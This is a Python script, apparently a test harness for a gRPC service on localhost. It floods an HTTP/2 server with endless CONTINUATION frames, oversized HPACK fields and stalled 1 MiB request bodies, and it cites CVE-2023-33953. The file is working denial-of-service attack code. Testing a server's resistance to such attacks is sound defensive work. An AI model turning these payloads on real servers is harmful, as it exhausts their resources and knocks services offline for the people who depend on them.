#!/usr/bin/env python3
"""An address of its own, without a credential, that makes an HTTP/2 server keep or chew what it need not:
http2_strangers.py PORT SECONDS fields|field|padding|bodies [MIB].

fields: a call whose headers, of 8 KB, have no end, in CONTINUATION frames. field: one header that has no end. padding: an
integer of a header, padded with zeros, in CONTINUATION frames of 128 bytes. (All three CVE-2023-33953.) bodies: 512 calls, each with a message of 1 MiB but for its last
byte. Sends at most MIB (default 1024), waits where the server does not read, dials anew where it is hung up on.
"""
import socket
import sys
import threading
import time

from http2 import ADDRESS, CONTINUATION, DATA, END_HEADERS, HEADERS, OPENING, frame, grpc_headers

RESOLVE = "/flightplan.v1.ResolverService/ResolveConfig"
# HPACK: a field to be remembered, whose name has 2^28 bytes; or whose name's length has no end.
ENDLESS = {"field": b"\x40\x7f\x81\xff\xff\x7f", "padding": b"\x40\x7f"}
port, seconds, how = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
most = (int(sys.argv[4]) if len(sys.argv) > 4 else 1024) << 20
stop = time.monotonic() + seconds
sent = cut = 0


def opening():
    if how == "bodies":
        calls = [frame(HEADERS, END_HEADERS, stream, grpc_headers(RESOLVE)) for stream in range(1, 257, 2)]
        return OPENING + b"".join(calls)
    return OPENING + frame(HEADERS, 0, 1, grpc_headers(RESOLVE) + ENDLESS.get(how, b""))


def pieces():
    if how == "bodies":
        for at in range(64):
            for stream in range(1, 257, 2):
                payload = (b"\0\0\x10\0\0" if at == 0 else b"") + bytes(16384 - (5 if at == 0 else 0))
                yield frame(DATA, 0, stream, payload)
        return
    if how == "fields":
        while True:
            yield frame(CONTINUATION, 0, 1, b"\0\x02aa\x7f\xc1\x3d" + b"b" * 8000)
    if how == "field":
        while True:
            yield frame(CONTINUATION, 0, 1, b"a" * 16384)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x80" * 128) * 64


def read(peer, windows):
    """Throws answers away, and lets the server send and take on."""
    try:
        while data := peer.recv(1 << 16):
            windows.append(len(data))
    except OSError:
        pass


def attack():
    global sent, cut
    while time.monotonic() < stop and sent < most:
        try:
            with socket.create_connection(("127.0.0.1", port), 2, (ADDRESS, 0)) as peer:
                peer.settimeout(seconds)
                threading.Thread(target=read, args=(peer, []), daemon=True).start()
                peer.sendall(opening())
                for piece in pieces():
                    if time.monotonic() > stop or sent > most:
                        break
                    peer.sendall(piece)
                    sent += len(piece)
                while time.monotonic() < stop:
                    time.sleep(0.05)
                    peer.sendall(frame(6, 0, 0, bytes(8)) if how == "bodies" else b"")
                    if how != "bodies":
                        break
        except OSError:
            cut += 1
            time.sleep(0.02)


attackers = [threading.Thread(target=attack, daemon=True) for _ in range(4 if how == "bodies" else 2)]
for attacker in attackers:
    attacker.start()
while any(attacker.is_alive() for attacker in attackers) and time.monotonic() < stop:
    time.sleep(0.05)
print(f"sent_mib={sent >> 20} cut={cut}")
